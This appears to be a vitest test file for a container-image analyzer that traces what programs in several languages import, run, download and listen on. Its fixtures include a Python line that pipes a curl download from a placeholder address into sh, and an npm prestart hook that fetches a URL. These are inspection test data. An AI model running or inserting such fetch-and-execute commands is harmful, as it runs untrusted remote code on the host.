import { describe, expect, it } from 'vitest';
import { explainImage, outline, type TestImage, type TestLayer } from '../../../../testkit/explain.ts';
import type { StartStep } from '../../explanation.ts';

const BASE: TestLayer = {
  'bin/sh': { elf: 'sh' },
  'usr/bin/env': { elf: 'env' },
  'usr/bin/curl': { elf: 'curl' },
  'usr/bin/node': { elf: 'node' },
  'usr/bin/npm': '#!/usr/bin/env node\nx\n',
  'usr/bin/python3': { elf: 'python' },
  'usr/bin/perl': { elf: 'perl' },
  'usr/bin/ruby': { elf: 'ruby' },
  'usr/bin/php': { elf: 'php' },
  'usr/bin/java': { elf: 'java' },
};

function chain(config: TestImage['config'], files: TestLayer): readonly StartStep[] {
  return explainImage({ layers: [BASE, files], ...(config === undefined ? {} : { config }) }).startChain;
}

function lines(cmd: readonly string[], files: TestLayer): string[] {
  return outline(chain({ Cmd: [...cmd], WorkingDir: '/app' }, files));
}

const CALL = '{where the program calls it}';

describe('Python', () => {
  const files = {
    'app/main.py':
      'import os, helper\nfrom pkg import work\nimport requests\n# os.system("curl never")\nURL = "http://192.0.2.1/x"\nos.system("curl " + URL + " | sh")\nrequests.get("http://192.0.2.1/y")\napp.run(host="0.0.0.0", port=8080)\n',
    'app/helper.py': 'import main\nimport subprocess\nsubprocess.run(["curl", "-s", host])\n',
    'app/pkg/__init__.py': 'from .deep import x\n',
    'app/pkg/deep.py': 'x = 1\n',
    'app/pkg/work.py': 'y = 1\n',
  };
  const expected = [
    '  main.py [script]',
    '    /app/helper.py [script]',
    `      curl [elf] ${CALL}`,
    '    /app/pkg/__init__.py [script]',
    '      /app/pkg/deep.py [script]',
    '    /app/pkg/work.py [script]',
    `    pipeline [pipeline] ${CALL}`,
    '      curl [elf]',
    '      sh [elf] !it runs what "curl http://192.0.2.1/x" gives it',
    `    download http://192.0.2.1/y [builtin] ${CALL}`,
    `    listen on 8080 [builtin] ${CALL}`,
  ];

  it('files tell what they import beside them, spawn, download and listen on', () => {
    expect(lines(['python3', '-u', 'main.py'], files)).toEqual(['python3 [elf]', ...expected]);
    const download = chain({ Cmd: ['python3', '/app/main.py'] }, files)[0]?.children[0]?.children.at(-2);
    expect(download).toMatchObject({ file: '/app/main.py', line: 7, layer: 1 });
  });

  it('scripts and modules are read alike', () => {
    const script = { ...files, 'app/run': `#!/usr/bin/env python3\n${files['app/main.py']}` };
    expect(lines(['/app/run'], script)).toContain(
      '  download http://192.0.2.1/y [builtin] {where the program calls it}',
    );
    expect(lines(['python3', '-m', 'main'], files).slice(2)).toEqual(expected.slice(1));
    expect(lines(['python3', '-m', 'gone'], files)).toEqual([
      'python3 [elf] !the module gone was not found in the image as source',
    ]);
  });

  it('text on the command line is read, and what it may do beside is said', () => {
    expect(lines(['python3', '-c', 'import os; os.system("curl x")'], {})).toEqual([
      'python3 [elf] !it runs program text on the command line: only calls that name their commands are read',
      `  curl [elf] ${CALL}`,
    ]);
  });

  it('lists the first fifty calls of a program that is made of them', () => {
    const text = 'subprocess.run(["curl", "x"])\n'.repeat(20_000);
    const [, , ...calls] = lines(['python3', 'a.py'], { 'app/a.py': text });
    expect(calls).toHaveLength(50);
  });

  it('a program of a thousand imports of each other stays within its bounds', () => {
    const imports = Array.from({ length: 200 }, (_, index) => `import m${index}`).join('\n');
    const many = Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`app/m${i}.py`, `${imports}\n`]));
    expect(lines(['python3', 'm0.py'], many).length).toBeLessThan(5100);
    expect(lines(['python3', '/app/m0.py'], { 'app/m0.py': 'import os\n'.repeat(100_000) })).toHaveLength(2);
  });
});

describe('Node', () => {
  it('files and their relative modules are read', () => {
    const files: TestLayer = {
      'app/index.js':
        "const { exec } = require('child_process');\nconst lib = require('./lib');\nimport('./late.mjs');\nexec('curl http://192.0.2.1/a');\nserver.listen(3000);\n",
      'app/lib/index.js': "fetch('http://192.0.2.1/b');\n",
      'app/late.mjs': 'export const a = 1;\n',
    };
    expect(lines(['node', 'index.js'], files)).toEqual([
      'node [elf]',
      '  index.js [script]',
      '    /app/lib/index.js [script]',
      `      download http://192.0.2.1/b [builtin] ${CALL}`,
      '    /app/late.mjs [script]',
      `    curl [elf] ${CALL}`,
      `    listen on 3000 [builtin] ${CALL}`,
    ]);
  });

  it('npm runs the scripts of package.json, with those before and after', () => {
    const files: TestLayer = {
      'app/package.json':
        '{\n "name": "x",\n "scripts": {\n  "prestart": "curl http://192.0.2.1/pre",\n  "start": "serve -p 80"\n }\n}\n',
      'app/node_modules/.bin/serve': { link: '../serve/cli.js' },
      'app/node_modules/serve/cli.js': '#!/usr/bin/env node\nx\n',
    };
    const steps = chain({ Cmd: ['npm', 'start'], WorkingDir: '/app' }, files)[0]?.children ?? [];
    expect(steps.slice(1).map(({ command, line }) => [command, line])).toEqual([
      ['curl http://192.0.2.1/pre', 4],
      ['serve -p 80', 5],
    ]);
    expect(steps[2]?.children[0]?.path).toBe('/app/node_modules/serve/cli.js');
    expect(lines(['npm', 'run', 'gone'], files)[0]).toContain('!/app/package.json has no script gone');
    expect(lines(['npm', 'start'], { 'app/package.json': '{' })[0]).toContain('cannot be read');
  });
});

it.each([
  ['perl', 'x.pl', "use lib 'lib';\nuse My::Own;\nsystem('curl http://192.0.2.1/a');\n", 'app/My/Own.pm'],
  ['ruby', 'x.rb', "require_relative 'own'\n`curl http://192.0.2.1/a`\n", 'app/own.rb'],
  [
    'php',
    'x.php',
    "<?php require __DIR__ . '/own.php';\nsystem('curl http://192.0.2.1/a');\n",
    'app/own.php',
  ],
])('%s is read for its own files and commands', (name, file, text, own) => {
  const imported = own.replace('app/My', 'app/My');
  expect(lines([name, file], { [`app/${file}`]: text, [own]: '1;\n' })).toEqual([
    `${name} [elf]`,
    `  ${file} [script]`,
    `    /${imported} [script]`,
    `    curl [elf] ${CALL}`,
  ]);
});

describe('Java', () => {
  it('names the jar, and says that its main class is not read', () => {
    expect(
      lines(['java', '-Xmx1g', '-jar', 'app.jar', '-jar'], { 'app/app.jar': { text: 'x', kept: false } }),
    ).toEqual(['java [elf]', '  app.jar [script] !it is no Java archive by name and content: not read']);
  });

  it('names the class that the manifest names, and what a loader runs in turn', () => {
    const facts = {
      mainClass: 'org.boot.\u001bLauncher',
      startClass: 'com.example.App',
      coordinates: ['g:a:1'],
    };
    const files: TestLayer = {
      'app/app.jar': { content: { kind: 'archive', format: 'zip', jar: facts } },
      'app/lib.jar': { content: { kind: 'archive', format: 'zip', jar: { coordinates: [] } } },
      'app/bad.jar': {
        content: { kind: 'archive', format: 'zip', jar: { coordinates: [], problem: 'it is cut off' } },
      },
    };
    expect(lines(['java', '-jar', 'app.jar'], files)).toEqual([
      'java [elf]',
      '  app.jar [program]',
      '    org.boot.\\x1bLauncher [program] !a compiled class: not read',
      '      com.example.App [program] !a compiled class: not read',
    ]);
    expect(lines(['java', '-jar', 'lib.jar'], files)[1]).toContain('!its manifest names no main class');
    expect(lines(['java', '-jar', 'bad.jar'], files)[1]).toContain('!it is cut off');
    const [java] = explainImage({
      config: { Cmd: ['java', '-jar', '/app/app.jar'] },
      layers: [{ ...BASE, ...files }],
    }).startChain;
    const [step] = java?.children ?? [];
    expect(step?.says).toBe(
      'Java archive g:a:1, main class org.boot.\\x1bLauncher, start class com.example.App',
    );
    expect(step?.children[0]).toMatchObject({
      command: 'Main-Class: org.boot.\\x1bLauncher',
      file: '/app/app.jar',
      layer: 0,
    });
  });

  it('finds a class in the folders of its class path', () => {
    const files: TestLayer = { 'app/classes/org/Main.class': { text: 'x', kept: false } };
    expect(lines(['java', '-cp', 'lib.jar:classes', 'org.Main', 'x'], files)).toEqual([
      'java [elf] !its class path names what the image does not hold: lib.jar',
      '  org.Main [program] !a compiled class: not read',
    ]);
    expect(lines(['java', 'org.Gone'], files)).toEqual([
      'java [elf] !the class org.Gone is in no folder of its class path',
    ]);
  });
});
